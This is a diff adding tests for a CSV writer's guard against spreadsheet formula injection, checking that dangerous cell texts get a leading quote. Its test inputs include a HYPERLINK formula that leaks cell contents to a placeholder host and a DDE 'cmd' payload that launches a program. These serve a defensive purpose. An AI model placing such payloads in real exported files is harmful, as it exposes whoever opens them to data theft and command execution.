@@ -16,6 +16,7 @@ from hypothesis import strategies as st
 
 from modelhub.jobs.formats import FileRefused, format_of, open_reader
 from modelhub.jobs.formats import rows as rows_module
+from modelhub.jobs.formats.csv_rows import CsvWriter, guarded
 from modelhub.jobs.formats.parquet_rows import PartWriter, make_parquet
 from modelhub.jobs.formats.rows import Column, Row
 from modelhub.jobs.options import Options
@@ -206,3 +207,46 @@ class TestParquet:
         for name in ("at", "small", "list", "day"):
             assert result.column(name).equals(table.column(name)), name
         assert result.column("kind").to_pylist() == ["x", "y", "x"]
+
+
+class TestFormulas:
+    """What a spreadsheet would run when somebody opens the result."""
+
+    @pytest.mark.parametrize(
+        "text",
+        [
+            '=HYPERLINK("http://x/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "=", "-",
+            "\uff1d1+1", "- item", "-0.5 degrees", "+49 30 1234", "'=1", "-inf", "--1", "-1e", "1-\uff11"[1:],
+        ],
+    )  # fmt: skip
+    def test_texts_get_a_quote_that_can_be_taken_away_again(self, text: str) -> None:
+        assert guarded(text) == f"'{text}"
+
+    @pytest.mark.parametrize(
+        "value", ["-0.5", "+1", "-1e-07", "-.5", "5", "", "a=b", "'", "it's", "x@y", " plain", -0.5, -3, 1e-7, None]
+    )
+    def test_numbers_and_other_texts_stay_as_they_are(self, value: Any) -> None:
+        assert guarded(value) is value
+
+    @given(st.text(st.sampled_from("'=-+@1.e\t a"), max_size=6))
+    def test_no_text_that_would_be_run_is_left_and_none_is_lost(self, text: str) -> None:
+        written = guarded(text)
+        if written == text:
+            assert text[:1] not in tuple("=@\t") or not text
+            if text[:1] in tuple("+-"):
+                float(text)
+        else:
+            assert written[1:] == text
+
+    def test_the_writer_guards_names_and_fields_of_both_kinds_and_can_be_told_not_to(self) -> None:
+        rows = list(
+            open_reader(io.BytesIO(b'{"=id": "=1+1", "low": -0.5, "text": "-0.5"}\n'), "jsonl", Options()).rows()
+        )
+        added = [{"label": "@label", "score": -0.25, "scores": {"=a": -1.0}}]
+        columns = ["=id", "low", "text", "label", "score", "scores"]
+        for guards, quote in ((True, "'"), (False, "")):
+            kept = io.BytesIO()
+            CsvWriter(kept.write, columns, ",", is_new=True, guards=guards).write(rows, added)
+            head, body = csv.reader(io.StringIO(kept.getvalue().decode(), newline=""))
+            assert head == [f"{quote}=id", *columns[1:]]
+            assert body == [f"{quote}=1+1", "-0.5", "-0.5", f"{quote}@label", "-0.25", '{"=a":-1.0}']
